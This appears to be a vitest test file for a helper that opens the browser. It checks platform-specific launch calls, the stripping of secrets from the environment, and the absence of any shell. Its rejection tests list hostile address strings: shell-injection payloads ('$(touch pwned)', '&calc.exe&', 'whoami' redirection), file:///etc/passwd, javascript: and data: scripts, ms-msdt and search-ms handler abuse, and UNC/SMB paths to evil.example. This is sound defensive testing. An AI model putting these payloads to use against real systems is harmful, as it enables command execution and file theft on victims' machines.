import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { type BrowserMachine, browserCall, browserEnvironment, openBrowser } from './browser.ts'

const directory = mkdtempSync(join(tmpdir(), 'evergrant-browser-'))
afterAll(() => rmSync(directory, { recursive: true, force: true }))

const machines: readonly (readonly [string, BrowserMachine])[] = [
  ['Linux', { platform: 'linux', env: { DISPLAY: ':0' } }],
  ['macOS', { platform: 'darwin', env: {} }],
  ['Windows', { platform: 'win32', env: { SystemRoot: 'C:\\Windows' } }],
  ['BROWSER', { platform: 'linux', env: { BROWSER: '/opt/a browser' } }],
]
const url = 'http://127.0.0.1:41233/7HqkWq2nV8b1x0yZ9a8b7c'

describe('T31: the browser is opened', () => {
  test('by one program and a list of arguments, the last of which is the address', () => {
    expect(machines.map(([, machine]) => browserCall(url, machine))).toEqual([
      { program: 'xdg-open', args: [url] },
      { program: '/usr/bin/open', args: [url] },
      { program: 'C:\\Windows\\System32\\rundll32.exe', args: ['url.dll,FileProtocolHandler', url] },
      { program: '/opt/a browser', args: [url] },
    ])
  })

  // What servers sent in CVE-2025-6514 and its kin, in the place of an address of the web.
  test.each([
    'file:/c:/windows/system32/calc.exe',
    'file:///etc/passwd',
    'a:$(cmd.exe /c whoami > c:\\temp\\pwned.txt)?response_type=code',
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'ms-msdt:/id PCWDiagnostic',
    'search-ms:query=x&crumb=location:\\\\evil.example\\share',
    'vscode://file/etc/passwd',
    'smb://evil.example/share',
    '\\\\evil.example\\share\\x.exe',
    '-a Calculator',
    '--help',
    'calc.exe',
    '$(touch pwned)',
    'http://user:pass@127.0.0.1/',
    'http://127.0.0.1/"&calc.exe&"',
    "http://127.0.0.1/'$(touch pwned)'",
    'http://127.0.0.1/?`touch pwned`',
    'http://127.0.0.1/#`touch pwned`',
    'http://127.0.0.1/?x=|calc.exe',
    'http://127.0.0.1/?x=^&calc.exe',
    'http://[::1',
    '',
  ])('never with an address that is none of the web, or could be more than one: %s', address => {
    const calls = machines.map(([, machine]) => browserCall(address, machine))
    for (const call of calls) {
      const given = call?.args.at(-1)
      // The URL standard has encoded what was dangerous, or there is no call.
      expect(given ?? 'http://').toMatch(/^https?:\/\/[^"'`\\^<>|\s]*$/)
    }
    if (!/^https?:\/\/127/.test(address)) expect(calls).toEqual(machines.map(() => null))
  })

  test('on Linux only where there is a screen', () => {
    expect(browserCall(url, { platform: 'linux', env: {} })).toBeNull()
    expect(browserCall(url, { platform: 'linux', env: { WAYLAND_DISPLAY: 'wayland-0' } })).not.toBeNull()
  })

  test('without the secrets of this process in its environment', () => {
    const env = {
      PATH: '/bin',
      DISPLAY: ':0',
      XDG_RUNTIME_DIR: '/run/user/1',
      DATABASE_URL: 'postgres://x',
      EVERGRANT_SOURCE_URL: 'x',
      EVERGRANT_ENCRYPTION_KEYS: 'x',
      ZOHO_CLIENT_ID: 'x',
      ZOHO_REFRESH_TOKEN: 'x',
      ACME_SECRET: 'x',
      acme_token: 'x',
      PGPASSWORD: 'x',
      AWS_ACCESS_KEY_ID: 'x',
    }
    expect(Object.keys(browserEnvironment(env))).toEqual(['PATH', 'DISPLAY', 'XDG_RUNTIME_DIR'])
  })

  test('by no shell: what one would run is an argument', async () => {
    const program = join(directory, 'browser')
    const seen = join(directory, 'seen')
    writeFileSync(program, `#!/bin/sh\nprintf '%s\\n' "$@" > '${seen}'\n`)
    chmodSync(program, 0o700)
    const pwned = join(directory, 'pwned')
    const address = `${url}?a=$(touch%20${pwned})&b=1;touch\${IFS}${pwned}`
    expect(
      await openBrowser(address, { platform: 'linux', env: { BROWSER: program, PATH: '/usr/bin:/bin' } }),
    ).toBe(true)
    expect(existsSync(pwned)).toBe(false)
    expect(readFileSync(seen, 'utf8')).toBe(`${new URL(address).href}\n`)
  })

  test('or not: no program, or one that fails, is no exception', async () => {
    for (const program of [join(directory, 'nowhere'), '/bin/false', 'true; touch pwned']) {
      const machine: BrowserMachine = { platform: 'linux', env: { BROWSER: program, PATH: '/usr/bin:/bin' } }
      expect([program, await openBrowser(url, machine)]).toEqual([program, false])
    }
  })
})
